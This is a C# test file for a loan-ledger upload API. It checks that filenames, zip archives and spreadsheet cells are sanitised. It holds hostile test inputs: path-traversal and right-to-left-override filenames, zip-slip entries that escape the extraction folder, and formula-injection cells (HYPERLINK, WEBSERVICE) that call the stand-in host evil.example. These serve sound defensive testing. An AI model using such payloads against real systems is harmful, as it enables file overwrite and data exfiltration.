using System.IO.Compression;
using System.Net;
using ClosedXML.Excel;
using Fiscal.Api.Tests.Features.Exports;

namespace Fiscal.Api.Tests.Features.Imports;

/// <summary>What outsiders send is kept as bytes in the database and goes back only as a file to save.</summary>
public sealed class UploadSafetyTests(EmptyCounties counties)
{
    [Theory]
    [InlineData("../../../etc/passwd.csv", "passwd.csv")]
    [InlineData("C:\\Windows\\..\\台账.csv", "台账.csv")]
    [InlineData("台账\u202Evsc.exe.csv", "台账vsc.exe.csv")]
    [InlineData("..", "未命名")]
    public async Task A_name_is_never_a_path_and_what_is_sent_back_is_only_to_be_saved(string sent, string kept)
    {
        using var clerk = await counties.Clerk();
        var files = Directory.GetFileSystemEntries(Path.GetTempPath(), "*passwd*");

        var import = await clerk.Upload(sent, Samples.Content(Samples.TrustInWan), Samples.AsOf);

        Assert.Equal(kept, import.Text("fileName"));
        Assert.Equal(files, Directory.GetFileSystemEntries(Path.GetTempPath(), "*passwd*"));
        foreach (var path in new[] { "file", "findings.xlsx" })
        {
            using var answer = await clerk.GetAsync($"/api/imports/{import.Count("id")}/{path}");
            Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
            Assert.Equal("attachment", answer.Content.Headers.ContentDisposition!.DispositionType);
            Assert.Equal(["nosniff"], answer.Headers.GetValues("X-Content-Type-Options"));
            Assert.DoesNotContain("html", answer.Content.Headers.ContentType!.MediaType!, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_package_whose_parts_climb_out_of_it_writes_nothing_anywhere()
    {
        using var clerk = await counties.Clerk();
        var marker = $"zip-slip-{Guid.NewGuid():N}";
        using var content = new MemoryStream();
        content.Write(Samples.Content(Samples.CityBank));
        using (var zip = new ZipArchive(content, ZipArchiveMode.Update, leaveOpen: true))
            foreach (var name in new[] { $"../../../../../..{Path.GetTempPath()}{marker}", $"..\\..\\{marker}", Path.GetTempPath() + marker, $"xl/../../{marker}" })
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write("<x/>"u8);
            }

        var import = await clerk.Upload("长沙银行.xlsx", content.ToArray(), Samples.AsOf);
        using var findings = await clerk.Workbook($"/api/imports/{import.Count("id")}/findings.xlsx");

        Assert.NotEmpty(findings.Worksheets);
        Assert.Empty(Directory.GetFileSystemEntries(Path.GetTempPath(), $"*{marker}*"));
        Assert.Empty(Directory.GetFileSystemEntries(AppContext.BaseDirectory, $"*{marker}*"));
    }

    [Fact]
    public async Task A_formula_that_reaches_out_comes_back_as_text()
    {
        using var clerk = await counties.Clerk();
        using var content = new MemoryStream();
        using (var workbook = new XLWorkbook())
        {
            var ledger = workbook.Worksheets.Add("贷款明细");
            string[][] rows = [["单位：元"], ["借款人", "借据号", "贷款金额", "贷款余额", "放款日", "到期日"], ["云岭城投公司", "J-1", "100.00", "100.00", "2026-01-01", "2027-01-01"]];
            for (var r = 0; r < rows.Length; r++)
                for (var c = 0; c < rows[r].Length; c++) ledger.Cell(r + 1, c + 1).SetValue(rows[r][c]);
            var sheet = workbook.Worksheets.Add("附注");
            sheet.Cell("A1").FormulaA1 = "HYPERLINK(\"http://evil.example/\"&B1,\"点这里\")";
            sheet.Cell("A2").FormulaA1 = "WEBSERVICE(\"http://evil.example/\")";
            sheet.Cell("A3").FormulaA1 = "1+1";
            sheet.Cell("A4").SetValue("普通文字");
            sheet.Cell("A4").Hyperlink = new XLHyperlink("http://evil.example/");
            workbook.SaveAs(content);
        }

        var import = await clerk.Upload("长沙银行.xlsx", content.ToArray(), Samples.AsOf);
        using var findings = await clerk.Workbook($"/api/imports/{import.Count("id")}/findings.xlsx");

        var note = findings.Worksheet("附注");
        Assert.Equal((false, false, true), (note.Cell("A1").HasFormula, note.Cell("A2").HasFormula, note.Cell("A3").HasFormula));
        Assert.Empty(note.Hyperlinks);
        Assert.Equal("普通文字", note.Cell("A4").GetString());
    }

    [Fact]
    public async Task Text_that_looks_like_a_formula_stays_text_in_every_export()
    {
        using var clerk = await counties.Clerk();
        var csv = "单位：元\n借款人,借据号,贷款金额,贷款余额,放款日,到期日\n\"=HYPERLINK(\"\"http://evil.example\"\")\",=1+1,100.00,100.00,2026-01-01,2027-01-01\n";
        var import = await clerk.Upload("恶意.csv", System.Text.Encoding.UTF8.GetBytes(csv), Samples.AsOf);

        using var findings = await clerk.Workbook($"/api/imports/{import.Count("id")}/findings.xlsx");

        Assert.All(findings.Worksheets.SelectMany(s => s.CellsUsed()), c => Assert.False(c.HasFormula, c.Address.ToString()));
        Assert.Contains(findings.Worksheets.SelectMany(s => s.CellsUsed()), c => c.GetString() == "=1+1");
    }
}
